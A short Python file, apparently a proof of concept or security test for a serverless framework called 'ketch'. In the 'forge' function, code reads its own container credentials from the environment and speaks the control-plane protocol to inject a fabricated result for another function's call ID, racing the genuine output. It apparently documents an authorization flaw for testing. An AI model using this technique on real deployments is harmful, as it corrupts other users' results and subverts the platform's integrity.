"""A function whose code forges an output for a call it was never given, speaking the container
protocol itself with its own container's credentials (what any function's code can read)."""

import os
import pickle
import time

import ketch
from ketch.protocol import container as wire
from ketch.protocol.blocking_peer import connect

app = ketch.App("forger")


@app.function()
def victim(seconds: float) -> str:
    time.sleep(seconds)
    return "the real result"


@app.function()
def forge(call_id: str) -> str:
    peer = connect(os.environ["KETCH_SERVER"])
    hello = wire.Hello(container_id=os.environ["KETCH_CONTAINER_ID"],
                       token=os.environ["KETCH_CONTAINER_TOKEN"])
    peer.request(wire.HELLO, hello, wire.Welcome, read_here=True)
    peer.send(wire.OUTPUTS, [wire.Output(call_id=call_id, index=0, status=wire.Status.OK,
                                         data=pickle.dumps("forged"))])
    time.sleep(0.5)  # the notice reaches the control plane before this container's own output
    peer.close()
    return "sent"
